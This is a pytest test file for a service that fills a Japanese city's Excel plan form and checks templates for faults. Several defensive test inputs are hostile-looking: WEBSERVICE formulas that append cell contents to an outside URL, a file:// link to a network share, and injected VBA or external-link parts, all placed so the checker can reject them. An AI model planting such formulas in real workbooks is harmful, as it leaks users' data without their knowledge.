"""The city's own Excel form: faults by cell, what comes in, what stays as it was, what may not come in at all."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.drawing.image import Image
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Border, Font, PatternFill, Side
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.worksheet import Worksheet
from PIL import Image as Picture

from tests.services.plan.book.sources import source
from yakuba.kernel.actions import Problem, Problems
from yakuba.kernel.files.wire import Fault
from yakuba.services.plan.book.forms import own
from yakuba.services.plan.book.sample_form import sample

pytestmark = pytest.mark.usefixtures("parsed_here")
RULED = Border(*[Side(style="thin")] * 4)


def form() -> Workbook:
    """A form whose rows 4 and 5 are one initiative, with totals, names, conditions and choices around them."""
    book = Workbook()
    sheet = book.worksheets[0]
    sheet.title = "様式"
    sheet["A1"] = "{{自治体名}} {{計画名}} {{対象:推進}}"
    sheet.merge_cells("A1:F1")
    for place, text in {
        "A4": "{{番号}}",
        "B4": "{{取組名}}（{{区別}}）",
        "C4": "{{担当部署}}",
        "D4": "{{目標値の数}}",
        "E4": "=D4*$E$8",
        "A5": "目的",
        "B5": "{{目的}}",
        "D7": "=SUM(D4:D5)",
        "E8": 2,
        "A9": "{{件数}}",
    }.items():
        sheet[place] = text
    sheet["A4"].border, sheet["A4"].font = RULED, Font(bold=True)
    sheet.merge_cells("B5:F5")
    sheet.row_dimensions[7].height = 44
    sheet.print_area = "A1:F8"
    book.defined_names["合計"] = DefinedName("合計", attr_text="様式!$D$7")
    choice = DataValidation(type="list", formula1='"済,未"')
    choice.add("F4")
    sheet.add_data_validation(choice)
    red = PatternFill("solid", bgColor="FFFF0000")
    sheet.conditional_formatting.add("D4:D5", FormulaRule(formula=["$D4>$E$8"], fill=red))
    other = book.create_sheet("集計")
    other["A1"], other["A2"] = "=様式!D7", "=合計*2"
    return book


def kept(book: Workbook, path: Path) -> Path:
    """The workbook as a file."""
    book.save(path)
    return path


def filled(path: Path) -> Workbook:
    """The form with みほん市's plan in it."""
    return load_workbook(io.BytesIO(own.fill(path, own.check(path), source(draft=False))))


def told(path: Path) -> list[str]:
    """What is said of a form that is refused."""
    # Parsers run in this process here, so their own faults come out as they are.
    with pytest.raises((Problem, Fault)) as found:
        own.check(path)
    if isinstance(found.value, Problems):
        return [one.message for one in found.value.problems]
    return [found.value.message]


class TestFilling:
    def test_rows_are_repeated_and_everything_around_follows(self, tmp_path: Path) -> None:
        book = filled(kept(form(), tmp_path / "form.xlsx"))
        sheet = book["様式"]
        assert sheet["A1"].value == "みほん市 みほん市情報化推進計画"
        # Four initiatives of two rows: six rows more.
        assert [sheet[f"A{row}"].value for row in (4, 6, 8, 10)] == ["1", "2-1", "2-2", "10"]
        assert sheet["B4"].value == "電子申請の拡大（推進）"
        assert sheet["B5"].value == "いつでも、どこからでも手続ができるまちにします。"
        assert sheet["A10"].font.bold
        assert sheet["A10"].border.left.style == "thin"
        assert [sheet[f"E{row}"].value for row in (4, 6, 10)] == ["=D4*$E$14", "=D6*$E$14", "=D10*$E$14"]
        assert sheet["D13"].value == "=SUM(D4:D11)"
        assert (sheet["E14"].value, sheet["A15"].value) == (2, 4)
        assert sheet.row_dimensions[13].height == 44
        assert {str(one) for one in sheet.merged_cells.ranges} == {
            "A1:F1",
            "B5:F5",
            "B7:F7",
            "B9:F9",
            "B11:F11",
        }
        assert sheet.print_area == "'様式'!$A$1:$F$14"
        assert book.defined_names["合計"].attr_text == "様式!$D$13"
        assert [str(one.sqref) for one in sheet.data_validations.dataValidation] == ["F4:F10"]
        (condition,) = sheet.conditional_formatting
        assert (str(condition.sqref), condition.rules[0].formula) == ("D4:D11", ["$D4>$E$14"])
        assert [one.value for one in book["集計"]["A"]] == ["=様式!D13", "=合計*2"]

    def test_a_number_is_one_and_text_is_never_a_formula(self, tmp_path: Path) -> None:
        path = kept(form(), tmp_path / "form.xlsx")
        given = source(draft=False)
        given.this.forms[1]["title"] = "=HYPERLINK(1)"
        given.this.forms[2]["indicators"] = given.this.forms[0]["indicators"][:1]
        sheet = load_workbook(io.BytesIO(own.fill(path, own.check(path), given)))["様式"]
        assert sheet["D8"].value == 110
        assert sheet["D4"].value == "110\n25", "two figures are no number"
        assert sheet["B6"].value == "=HYPERLINK(1)（推進）"
        assert sheet["B6"].data_type == "s"

    def test_a_sheet_for_each_initiative(self, tmp_path: Path) -> None:
        book = Workbook()
        sheet = book.worksheets[0]
        sheet.title = "{{区別}}{{番号}}"
        sheet["B2"], sheet["B3"], sheet["A9"] = "{{取組名}}", "=LEN(B2)", "{{対象:すべて}}"
        sheet.merge_cells("B2:D2")
        made = filled(kept(book, tmp_path / "sheets.xlsx"))
        assert made.sheetnames == ["推進1", "推進2-1", "推進2-2", "推進10", "運用1"]
        assert [one["B2"].value for one in made.worksheets][-1] == "犬の登録の台帳"
        assert {str(one["B3"].value) for one in made.worksheets} == {"=LEN(B2)"}

    def test_none_at_all_leaves_one_empty_row_and_the_edition_before_can_be_asked(
        self, tmp_path: Path
    ) -> None:
        book = form()
        book["様式"]["A1"] = "{{対象:前の版の推進}}"
        sheet = filled(kept(book, tmp_path / "before.xlsx"))["様式"]
        assert [sheet["B4"].value, sheet["B6"].value] == ["電子申請の拡大（推進）", "終わった取組（推進）"]
        path = kept(book, tmp_path / "none.xlsx")
        sheet = load_workbook(io.BytesIO(own.fill(path, own.check(path), source(alone=True))))["様式"]
        assert (sheet["B4"].value, sheet["D7"].value, sheet["A9"].value) == (None, "=SUM(D4:D5)", 0)

    def test_the_example_that_is_offered_can_be_filled(self, tmp_path: Path) -> None:
        path = tmp_path / "sample.xlsx"
        path.write_bytes(sample())
        sheet = filled(path).worksheets[0]
        assert [sheet[f"A{row}"].value for row in range(4, 10)] == ["1", "2-1", "2-2", "10", "1", "計"]
        assert sheet["B9"].value == '=COUNTA(A4:A8)&"件"'


def _unknown(sheet: Worksheet) -> None:
    sheet["C4"], sheet["B4"] = "{{担当部所}}", "{{取組名"


def _in_formula(sheet: Worksheet) -> None:
    sheet["D7"] = '=A1&"{{番号}}"'


def _outside(sheet: Worksheet) -> None:
    sheet.merge_cells("F3:F4")


def _far(sheet: Worksheet) -> None:
    sheet["D7"] = '=WEBSERVICE("https://example.jp/")'


def _kind(sheet: Worksheet) -> None:
    sheet["A1"] = "{{対象:全部}}"


def _nothing(sheet: Worksheet) -> None:
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and "{{" in cell.value:
                cell.value = None


class TestChecking:
    @pytest.mark.parametrize(
        ("change", "words"),
        [
            (
                _unknown,
                [
                    "シート「様式」のB4：「{{」と「}}」が組",
                    "シート「様式」のC4：「担当部所」という項目はありません。近いもの：担当部署",
                ],
            ),
            (_in_formula, ["シート「様式」のD7：式の中に"]),
            (_outside, ["シート「様式」のF3:F4：結合したセルが、くり返す行（4～5行目）の外"]),
            (_far, ["シート「様式」のD7：ほかのファイルや外部を読む式"]),
            (_kind, ["シート「様式」のA1：「対象」は"]),
            (_nothing, ["取組の項目がひとつもありません"]),
        ],
    )
    def test_what_is_wrong_is_told_by_cell(
        self, tmp_path: Path, change: Callable[[Worksheet], None], words: list[str]
    ) -> None:
        book = form()
        change(book["様式"])
        found = told(kept(book, tmp_path / "form.xlsx"))
        assert len(found) == len(words)
        assert all(one.startswith(word) for one, word in zip(found, words, strict=True)), found

    @pytest.mark.parametrize(
        "part", ["xl/vbaProject.bin", "xl/externalLinks/externalLink1.xml", "xl/embeddings/a.bin"]
    )
    def test_what_runs_or_reaches_out_does_not_come_in(self, tmp_path: Path, part: str) -> None:
        path = kept(form(), tmp_path / "form.xlsx")
        with zipfile.ZipFile(path, "a") as archive:
            archive.writestr(part, b"x")
        (message,) = told(path)
        assert "入っています。取り除いた" in message

    def test_what_is_no_workbook_is_told(self, tmp_path: Path) -> None:
        path = tmp_path / "form.xlsx"
        path.write_bytes(b"%PDF-1.7")
        assert told(path) == [
            "Excel ブック（.xlsx）ではありません。Excel で「.xlsx」として保存し直してください。"
        ]

    def test_what_cannot_be_carried_over_is_told(self, tmp_path: Path) -> None:
        path = kept(form(), tmp_path / "form.xlsx")
        with zipfile.ZipFile(path, "a") as archive:
            archive.writestr("xl/charts/chart1.xml", b"<c/>")
        assert own.check(path).lost == ("グラフ",)


def _named(book: Workbook) -> None:
    book.defined_names["X"] = DefinedName("X", attr_text='_xlfn.WEBSERVICE("https://example.jp/?"&様式!$B$4)')


def _conditioned(book: Workbook) -> None:
    rule = FormulaRule(formula=['LEN(WEBSERVICE("https://example.jp/?"&B4))>0'], fill=PatternFill())
    book["様式"].conditional_formatting.add("B4", rule)


def _chosen(book: Workbook) -> None:
    choice = DataValidation(type="list", formula1="='[other.xlsx]表'!$A$1:$A$3")
    choice.add("C4")
    book["様式"].add_data_validation(choice)


def _linked(book: Workbook) -> None:
    book["様式"]["A7"].value = "資料"
    book["様式"]["A7"].hyperlink = "file://192.0.2.1/share/a.xlsx"


def _leading(book: Workbook) -> None:
    book["様式"]["A7"].value = '=HYPERLINK("https://example.jp/?"&B4,"詳細")'


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (_named, "名前「X」：ほかのファイルや外部を読む式"),
        (_conditioned, "条件付き書式：ほかのファイルや外部を読む式"),
        (_chosen, "入力規則：ほかのファイルや外部を読む式"),
        (_linked, "A7：ファイルや共有フォルダーへのリンク"),
        (_leading, "A7：ほかのファイルや外部を読む式"),
    ],
)
def test_nothing_reaches_out_of_the_form_from_where_no_cell_shows_it(
    change: Callable[[Workbook], None], words: str, tmp_path: Path
) -> None:
    book = form()
    change(book)
    (message,) = told(kept(book, tmp_path / "form.xlsx"))
    assert words in message


def test_a_column_of_a_table_is_not_another_file(tmp_path: Path) -> None:
    book = form()
    book["様式"]["A7"].value = "=SUM(表1[金額])+集計!A1"
    own.check(kept(book, tmp_path / "form.xlsx"))
    book["様式"]["A7"].value = "=表1[金額]+[1]集計!A1"
    (message,) = told(kept(book, tmp_path / "form.xlsx"))
    assert "A7：ほかのファイルや外部を読む式" in message


def test_pictures_stay_and_go_down_with_what_is_below(tmp_path: Path) -> None:
    seal = io.BytesIO()
    Picture.new("RGB", (8, 8), "red").save(seal, "PNG")
    book = form()
    book["様式"].add_image(Image(io.BytesIO(seal.getvalue())), "A8")
    each = book.create_sheet("{{番号}}")
    each["A2"] = "{{取組名}}"
    each.add_image(Image(io.BytesIO(seal.getvalue())), "C1")
    made = filled(kept(book, tmp_path / "form.xlsx"))
    assert [image.anchor._from.row for image in made["様式"]._images] == [7 + 6]
    assert [len(sheet._images) for sheet in made.worksheets if sheet.title not in {"様式", "集計"}] == [1] * 5
